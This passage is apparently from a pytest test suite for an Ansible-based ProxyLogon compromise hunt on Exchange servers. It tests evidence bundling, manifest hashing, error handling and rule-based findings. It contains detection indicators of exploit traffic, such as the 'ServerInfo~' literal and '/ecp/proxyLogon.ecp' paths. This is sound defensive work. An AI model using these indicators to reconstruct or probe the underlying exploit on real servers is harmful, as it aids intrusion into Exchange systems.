    offline = tmp_path / "copied-off-the-server"
    (offline / "files" / "C").mkdir(parents=True)
    (offline / "files" / "C" / "x.log").write_text("evidence", encoding="utf-8")
    with pytest.raises(lb.BundleError, match="refusing"):
        lb.write_live_bundle(str(offline), _canned_result())
    assert (offline / "files" / "C" / "x.log").read_text(encoding="utf-8") == "evidence"


@pytest.mark.parametrize("bad", [None, [], {"failed": True, "msg": "x"}, {"files": []}])
def test_a_result_that_is_no_collector_result_is_refused(tmp_path, bad):
    with pytest.raises(lb.BundleError):
        lb.write_live_bundle(str(tmp_path / "b"), bad)


def test_damaged_items_become_errors_not_crashes(tmp_path):
    collected = {
        "collected_at": "2021-03-09T14:27:00.000Z",
        "files": [
            {"path": "C:\\logs\\a.log", "read": True, "kept": 1, "lines": 1, "content": "x"},
            {"path": "C:\\LOGS\\A.LOG", "read": True, "kept": 1, "lines": 1, "content": "y"},
            {"path": "C:\\logs\\a.log", "read": True, "kept": 1, "lines": 1, "content": "z"},
            {"content": "no path"},
            "not a mapping",
            {"path": "C:\\logs\\f", "read": True, "kept": 1, "content": "file"},
            {"path": "C:\\logs\\f\\below.log", "read": True, "kept": 1, "content": "below a file"},
        ],
        "listing": [{"path": "C:\\w\\x.aspx", "head_base64": "!!not base64!!", "size": 9}],
        "events": {"Bad\\Channel": {"count": 1, "records": [{"Id": 1}]}, "Application": "nope",
                   "System": {"count": 1, "records": [{"Id": 7, "Properties": "one"}]}},
        "caps_hit": ["plain text cap"],
        "errors": None,
    }
    written = lb.write_live_bundle(str(tmp_path / "b"), collected)
    text = "\n".join(written.errors)
    assert "collected twice" in text
    assert "listed twice" in text
    assert "without a path" in text
    assert "not base64" in text
    assert "Bad\\\\Channel" in text and "'Application' are not a mapping" in text
    assert "below.log" in text
    assert (tmp_path / "b" / "files" / "C" / "logs" / "a.log").read_bytes() == b"x\r\n"
    system = json.loads((tmp_path / "b" / "eventlogs" / "System.jsonl").read_text(encoding="utf-8"))
    assert system["Properties"] == ["one"] and system["Id"] == 7
    assert written.caps_hit == [
        {"cap": None, "stream": None, "source": None, "limit": None, "detail": "plain text cap"}
    ]
    _verify_manifest(tmp_path / "b")


def test_manifest_escapes_names_like_sha256sum(tmp_path):
    (tmp_path / "back\\slash.txt").write_bytes(b"a")
    (tmp_path / "plain.txt").write_bytes(b"b")
    assert lb.write_manifest(str(tmp_path)) == 2
    lines = (tmp_path / lb.MANIFEST).read_text(encoding="utf-8").splitlines()
    assert lines == [f"\\{hashlib.sha256(b'a').hexdigest()}  back\\\\slash.txt",
                     f"{hashlib.sha256(b'b').hexdigest()}  plain.txt"]
    if shutil.which("sha256sum"):
        check = subprocess.run(["sha256sum", "--strict", "-c", lb.MANIFEST], cwd=tmp_path, capture_output=True,
                               text=True, check=False)
        assert check.returncode == 0, check.stdout + check.stderr


def test_bundle_module_documentation_matches_its_arguments():
    doc = _doc(BUNDLE_DOC)["options"]
    assert set(doc) == set(lb.BUNDLE_ARGUMENTS)
    for name, spec in lb.BUNDLE_ARGUMENTS.items():
        assert doc[name]["type"] == spec["type"] and bool(doc[name].get("required")) == spec.get("required", False)
    returns = set(_doc(BUNDLE_DOC, "RETURN"))
    assert returns == set(lb.BundleWrite("x").to_result()) - {"changed"}


def test_library_module_writes_the_same_bundle_as_the_core(tmp_path, server_json):
    """library/exchange_hunt_bundle.py, run by ansible without the action plugin."""
    lb.write_live_bundle(str(server_json), _canned_result())
    expected = _bundle_bytes(server_json)
    target = tmp_path / "by-module"
    target.mkdir()
    shutil.copy(DEMO / "server.json", target / "server.json")
    arguments = tmp_path / "args.json"
    arguments.write_text(json.dumps({"bundle_dir": str(target), "collected": _canned_result()}), encoding="utf-8")
    no_actions = tmp_path / "no-action-plugins"
    no_actions.mkdir()
    env = dict(os.environ)
    env.pop("ANSIBLE_CONFIG", None)
    env.update({"ANSIBLE_LIBRARY": str(REPO / "library"), "ANSIBLE_MODULE_UTILS": str(REPO / "module_utils"),
                "ANSIBLE_ACTION_PLUGINS": str(no_actions), "ANSIBLE_HOME": str(tmp_path / "home"),
                "ANSIBLE_LOCAL_TEMP": str(tmp_path / "tmp"), "ANSIBLE_NOCOLOR": "1"})
    ansible = str(Path(sys.executable).with_name("ansible"))
    proc = subprocess.run(
        [ansible, "localhost", "-c", "local", "-e", f"ansible_python_interpreter={sys.executable}",
         "-m", "exchange_hunt_bundle", "-a", arguments.read_text(encoding="utf-8")],
        cwd=tmp_path, env=env, capture_output=True, text=True, timeout=300, check=False,
    )
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    assert '"changed": false' in proc.stdout
    assert _bundle_bytes(target) == expected


# =========================================================================== live.yml, defaults, argument_specs


def _load(path: Path):
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def _iter_tasks(tasks):
    for task in tasks or []:
        yield task
        for section in ("block", "rescue", "always"):
            yield from _iter_tasks(task.get(section))


def _module(task) -> str | None:
    from ansible.playbook.task import Task

    if any(section in task for section in ("block", "rescue", "always")):
        return None
    candidates = [key for key in task if key not in set(Task.fattributes) | {"local_action"}]
    assert len(candidates) == 1, candidates
    return candidates[0]


def _tasks_by_module() -> dict[str, list[dict]]:
    found: dict[str, list[dict]] = {}
    for task in _iter_tasks(_load(LIVE)):
        module = _module(task)
        if module:
            assert task.get("name"), module
            found.setdefault(module, []).append(task)
    return found


def test_live_yml_shape():
    tasks = _load(LIVE)
    assert len(tasks) == 1 and {"block", "rescue", "always"} <= set(tasks[0])
    modules = _tasks_by_module()
    assert set(modules) == {"ansible.builtin.assert", "ansible.builtin.set_fact", "exchange_hunt_collect",
                            "exchange_hunt_bundle"}
    (collect,) = modules["exchange_hunt_collect"]
    assert collect["check_mode"] is False and collect["changed_when"] is False
    assert collect["ignore_unreachable"] is True
    assert collect["timeout"] == "{{ exchange_hunt_collect_timeout | int }}"
    assert collect["register"] == "exchange_hunt_collected"
    assert set(collect["exchange_hunt_collect"]) == set(_doc(COLLECTOR_DOC)["options"])
    (bundle,) = modules["exchange_hunt_bundle"]
    assert bundle["delegate_to"] == "localhost" and bundle["become"] is False and bundle["check_mode"] is False
    assert bundle["exchange_hunt_bundle"]["collected"] == "{{ exchange_hunt_collected }}"
    assert "exchange_facts_bundle_dir" in bundle["exchange_hunt_bundle"]["bundle_dir"]
    for task in _iter_tasks(tasks):
        if "register" in task:
            assert task["register"].startswith("exchange_hunt_")
        for key in task.get("ansible.builtin.set_fact", {}):
            assert key.startswith("exchange_hunt_")
    rescue = json.dumps(tasks[0]["rescue"])
    assert "exchange_hunt_error" in rescue and "ansible_failed_task" in rescue and "ansible_failed_result.msg" in rescue
    assert "truncate(" in rescue
    assert tasks[0]["always"][0]["ansible.builtin.set_fact"] == {"exchange_hunt_collected": {}}


def test_defaults_and_argument_specs_agree():
    defaults = _load(ROLE / "defaults" / "main.yml")
    assert all(name.startswith("exchange_hunt_") for name in defaults)
    assert defaults["exchange_hunt_since_days"] == 90
    assert defaults["exchange_hunt_max_bytes"] == 64 * 1024 * 1024
    assert defaults["exchange_hunt_max_file_bytes"] == 16 * 1024 * 1024
    assert defaults["exchange_hunt_max_events_per_channel"] == 20000
    specs = _load(ROLE / "meta" / "argument_specs.yml")["argument_specs"]
    assert {"main", "prepare", "live"} <= set(specs)
    assert set(specs["live"]["options"]) == {"exchange_hunt_collection_spec", "exchange_hunt_collect_timeout"}
    for entry in specs.values():
        for name, option in entry["options"].items():
            assert name in defaults or name == "exchange_hunt_collection_spec", name
            if "default" in option:
                assert "{{" not in str(option["default"])
                assert option["default"] == defaults[name], name


# =========================================================================== running live.yml


def _argument_spec(options: dict) -> dict:
    spec = {}
    for name, option in options.items():
        entry = {"type": option["type"]}
        for key in ("elements", "default", "required"):
            if key in option:
                entry[key] = option[key]
        if "suboptions" in option:
            entry["options"] = _argument_spec(option["suboptions"])
        spec[name] = entry
    return spec


FAKE_COLLECTOR = textwrap.dedent(
    '''
    #!/usr/bin/python
    """Test stand-in for exchange_hunt_collect.ps1: the documented options, a canned result."""
    import json
    import os

    from ansible.module_utils.basic import AnsibleModule

    ARGUMENT_SPEC = json.loads(%r)


    def main():
        module = AnsibleModule(argument_spec=ARGUMENT_SPEC, supports_check_mode=True)
        if module.check_mode:
            module.fail_json(msg="collector ran in check mode")
        with open(os.environ["EXCHANGE_HUNT_FAKE_RESULT"], encoding="utf-8") as handle:
            case = json.load(handle)
        if case.get("fail"):
            module.fail_json(msg=case["fail"])
        for name, value in case["expect"].items():
            if module.params[name] != value:
                module.fail_json(msg="unexpected %%s: %%r" %% (name, module.params[name]))
        module.exit_json(**case["result"])


    if __name__ == "__main__":
        main()
    '''
).lstrip()

LIVE_SPEC = {
    "since": "2021-01-01",
    "max_bytes": 67108864,
    "max_file_bytes": 16777216,
    "max_events_per_channel": 20000,
    "max_script_bytes": 65536,
    "log_sets": [{"stream": "HttpProxy", "root": "<EX>Logging\\HttpProxy", "recurse": True, "include": "*.log",
                  "literals": ["ServerInfo~"]}],
    "file_sets": [{"stream": "WebFolders", "root": "<WWW>\\aspnet_client", "recurse": True, "include": "*"}],
    "event_sets": [{"channel": "MSExchange Management", "stream": "MSExchangeManagement", "literals": ["Set-"],
                    "keep_all": False}],
    "warnings": [],
}


def _run_live(base: Path):
    library = base / "library"
    library.mkdir()
    argument_spec = _argument_spec(_doc(COLLECTOR_DOC)["options"])
    (library / "exchange_hunt_collect.py").write_text(FAKE_COLLECTOR % json.dumps(argument_spec), encoding="utf-8")

    expect = {k: v for k, v in LIVE_SPEC.items() if k != "warnings"}
    expect["max_seconds"] = 108  # 90 % of exchange_hunt_collect_timeout
    good = base / "good.json"
    good.write_text(json.dumps({"result": _canned_result(), "expect": expect}), encoding="utf-8")
    broken = base / "broken.json"
    broken.write_text(json.dumps({"fail": "Get-WinEvent : Access is denied.\r\nAt line:1 char:1"}), encoding="utf-8")
    evidence = base / "evidence"
    state = base / "state"
    state.mkdir()
    assert importlib.util.find_spec("pypsrp") is not None, "pypsrp missing: run make setup"
    inventory = {
        "all": {
            "hosts": {
                "ex01": {"ansible_connection": "local", "fake_result": str(good),
                         "exchange_facts_bundle_dir": str(evidence / "ex01"),
                         "exchange_hunt_collection_spec": LIVE_SPEC},
                "ex02": {"ansible_connection": "local", "fake_result": str(broken),
                         "exchange_hunt_collection_spec": LIVE_SPEC},
                "ex03": {"ansible_connection": "ansible.builtin.psrp", "ansible_host": "127.0.0.1", "ansible_port": 1,
                         "ansible_psrp_protocol": "http", "ansible_user": "nobody", "ansible_password": SECRET,
                         "ansible_psrp_connection_timeout": 5, "fake_result": str(good),
                         "exchange_hunt_collection_spec": LIVE_SPEC},
                "ex04": {"ansible_connection": "local", "fake_result": str(good)},
            },
            "vars": {"ansible_python_interpreter": sys.executable},
        }
    }
    (base / "inventory.yml").write_text(yaml.safe_dump(inventory), encoding="utf-8")
    playbook = [{
        "name": "Run live.yml",
        "hosts": "all",
        "gather_facts": False,
        "environment": {"EXCHANGE_HUNT_FAKE_RESULT": "{{ fake_result }}"},
        "vars": {"exchange_facts_evidence_root": str(evidence), "exchange_hunt_collect_timeout": 120},
        "tasks": [
            {"name": "Include live.yml",
             "ansible.builtin.include_role": {"name": "exchange_hunt", "tasks_from": "live"}},
            {"name": "Dump the facts", "delegate_to": "localhost", "check_mode": False, "changed_when": False,
             "ansible.builtin.copy": {
                 "content": "{{ {'error': exchange_hunt_error | default(none),"
                            " 'bundle': exchange_hunt_bundle_result | default(none),"
                            " 'collected': exchange_hunt_collected | default(none)} | to_json }}",
                 "dest": f"{state}/{{{{ inventory_hostname }}}}.json", "mode": "0600"}},
        ],
    }]
    (base / "playbook.yml").write_text(yaml.safe_dump(playbook, sort_keys=False), encoding="utf-8")
    env = dict(os.environ)
    env.update({
        "ANSIBLE_LIBRARY": f"{library}{os.pathsep}{REPO / 'library'}",
        "ANSIBLE_ACTION_PLUGINS": str(REPO / "action_plugins"),
        "ANSIBLE_MODULE_UTILS": str(REPO / "module_utils"),
        "ANSIBLE_ROLES_PATH": str(REPO / "roles"),
        "ANSIBLE_HOST_KEY_CHECKING": "False",
        "ANSIBLE_RETRY_FILES_ENABLED": "False",
        "ANSIBLE_NOCOLOR": "1",
        "ANSIBLE_LOCAL_TEMP": str(base / "tmp"),
        "ANSIBLE_HOME": str(base / "home"),
    })
    env.pop("ANSIBLE_CONFIG", None)
    ansible_playbook = str(Path(sys.executable).with_name("ansible-playbook"))
    results = {}
    for mode in ("normal", "check"):
        shutil.rmtree(evidence, ignore_errors=True)
        (evidence / "ex01").mkdir(parents=True)
        # exchange_facts wrote server.json and its one-line manifest before the hunt collection runs.
        shutil.copy(DEMO / "server.json", evidence / "ex01" / "server.json")
        for leftover in state.glob("*.json"):
            leftover.unlink()
        cmd = [ansible_playbook, "-i", str(base / "inventory.yml"), str(base / "playbook.yml")]
        if mode == "check":
            cmd.append("--check")
        proc = subprocess.run(cmd, cwd=base, env=env, capture_output=True, text=True, timeout=600, check=False)
        states = {p.stem: json.loads(p.read_text(encoding="utf-8")) for p in state.glob("*.json")}
        results[mode] = (proc, states, _bundle_bytes(evidence / "ex01"), sorted(p.name for p in evidence.iterdir()))
    return results, evidence


@pytest.fixture(scope="module")
def live_run(tmp_path_factory):
    return _run_live(tmp_path_factory.mktemp("hunt-live"))


@pytest.mark.parametrize("mode", ["normal", "check"])
def test_live_run_writes_the_bundle(live_run, mode):
    results, evidence = live_run
    proc, states, bundle, folders = results[mode]
    assert proc.returncode == 0, proc.stdout[-4000:] + proc.stderr[-4000:]
    assert set(states) == {"ex01", "ex02", "ex03", "ex04"}, proc.stdout[-4000:]
    good = states["ex01"]
    assert good["error"] is None, good["error"]
    assert good["collected"] == {}, "the raw result is dropped once it is in the bundle"
    summary = good["bundle"]
    assert summary["bundle_dir"] == str(evidence / "ex01")
    assert summary["changed"] is False
    assert summary["files"] == 1 and summary["copied"] == 1
    assert summary["caps_hit"][0]["cap"] == "max_bytes"
    assert "files/C/" + DEMO_HTTPPROXY in bundle
    assert "eventlogs/MSExchange Management.jsonl" in bundle
    assert folders == ["ex01"], "only the good host gets hunt evidence; ex04 and the broken hosts none"
    lines = bundle["manifest.sha256"].decode("utf-8").splitlines()
    assert [line.split("  ", 1)[1] for line in lines] == sorted(name for name in bundle if name != "manifest.sha256")
    for line in lines:
        digest, name = line.split("  ", 1)
        assert hashlib.sha256(bundle[name]).hexdigest() == digest
    assert re.search(r"ex01\s+:.*changed=0.*failed=0", proc.stdout), proc.stdout[-2000:]


def test_live_run_is_the_same_in_check_mode(live_run):
    results, _ = live_run
    assert results["normal"][2] == results["check"][2], "identical input gives identical bundle bytes"


@pytest.mark.parametrize("mode", ["normal", "check"])
def test_live_run_failures_become_exchange_hunt_error(live_run, mode):
    results, _ = live_run
    proc, states, _, _ = results[mode]
    broken = states["ex02"]
    assert broken["bundle"] is None
    assert broken["error"].startswith(
        "live hunt collection failed in task 'Run the read-only hunt collector on the server': ")
    assert "Access is denied. At line:1 char:1" in broken["error"]
    unreachable = states["ex03"]
    assert unreachable["bundle"]["skipped"] is True, "registered, but as skipped: nothing was written"
    assert unreachable["error"].startswith("live hunt collection failed: host unreachable")
    no_spec = states["ex04"]
    assert "exchange_hunt_collection_spec is not set" in no_spec["error"]
    for state in (broken, unreachable, no_spec):
        assert "\n" not in state["error"] and SECRET not in state["error"]
    assert SECRET not in proc.stdout and SECRET not in proc.stderr
    for host in ("ex02", "ex04"):
        assert re.search(rf"{host}\s+:.*failed=0.*rescued=1", proc.stdout), proc.stdout[-2000:]
    assert re.search(r"ex03\s+:.*unreachable=0.*failed=0", proc.stdout), proc.stdout[-2000:]


def test_live_bundle_is_hunted_like_an_offline_bundle(live_run):
    from exchange_remediation.hunt_engine import hunt_bundle
    from exchange_remediation.hunt_rule import load_rule_set

    _, evidence = live_run
    bundle = evidence / "ex01"
    server = json.loads((bundle / "server.json").read_text(encoding="utf-8"))
    hunt = hunt_bundle(str(bundle), load_rule_set(str(REPO / "data")), server)
    http = [f for f in hunt.findings if f.rule == "PL-26855-HTTPPROXY"]
    assert http, [f.rule for f in hunt.findings]
    critical = [f for f in http if "proxyLogon.ecp" in f.evidence]
    assert critical and critical[0].severity == "critical"
    assert critical[0].source == "C:\\" + DEMO_HTTPPROXY.replace("/", "\\")
    # The line number is the line's number in the file on the server (collection.json line_numbers),
    # not its place in the reduced copy.
    original = (DEMO / "files" / "C" / DEMO_HTTPPROXY).read_text(encoding="utf-8-sig").splitlines()
    assert critical[0].line == next(n for n, text in enumerate(original, 1) if "/ecp/proxyLogon.ecp" in text)
    assert hunt.sources["HttpProxy"].present
    # A cap was hit for HttpProxy on the server: the stream cannot count as fully read.
    assert hunt.sources["HttpProxy"].capped
